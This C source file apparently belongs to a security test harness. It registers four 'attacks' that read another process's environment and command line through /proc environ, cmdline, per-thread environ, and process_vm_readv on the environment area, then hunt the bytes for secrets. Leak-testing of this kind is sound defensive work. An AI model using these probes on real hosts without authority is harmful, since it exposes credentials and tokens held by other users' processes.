// What a process was started with: its environment, by three ways, and its arguments,
// which every user of the host can see. proc_pid_environ(5), proc_pid_cmdline(5)
#define _GNU_SOURCE
#include "attack.h"

#include <string.h>
#include <sys/uio.h>

static void Environ(pid_t target, char** arguments) {
  (void)arguments;
  HuntFile(target, "environ");
}

static void Cmdline(pid_t target, char** arguments) {
  (void)arguments;
  HuntFile(target, "cmdline");
}

static void OfThread(pid_t target, pid_t thread) {
  char name[48];
  snprintf(name, sizeof name, "task/%d/environ", (int)thread);
  HuntFile(target, name);
}

static void TaskEnviron(pid_t target, char** arguments) {
  (void)arguments;
  ForEachThread(target, OfThread);
}

// Fields 50 and 51 of stat say where the environment lies. proc_pid_stat(5)
static void EnvironArea(pid_t target, char** arguments) {
  (void)arguments;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/stat", (int)target);
  FILE* stat = fopen(path, "re");
  if (stat == NULL) {
    Refused(path);
    return;
  }
  static char text[4096];
  text[fread(text, 1, sizeof text - 1, stat)] = 0;
  fclose(stat);
  unsigned long long start = 0;
  unsigned long long end = 0;
  const char* at = strrchr(text, ')');
  for (int field = 2; at != NULL && field < 50; field++) at = strchr(at + 1, ' ');
  if (at == NULL || sscanf(at, "%llu %llu", &start, &end) != 2 || end < start) return;
  static char bytes[1 << 17];
  const size_t length = end - start < sizeof bytes ? (size_t)(end - start) : sizeof bytes;
  const struct iovec local = {bytes, length > 0 ? length : 1};
  const struct iovec remote = {(void*)(uintptr_t)start, local.iov_len};
  const ssize_t got = process_vm_readv(target, &local, 1, &remote, 1, 0);
  if (got < 0) Refused("process_vm_readv");
  else Hunt(bytes, (size_t)got);
}

ATTACK("proc-environ", Environ)
ATTACK("proc-cmdline", Cmdline)
ATTACK("task-environ", TaskEnviron)
ATTACK("environ-area", EnvironArea)
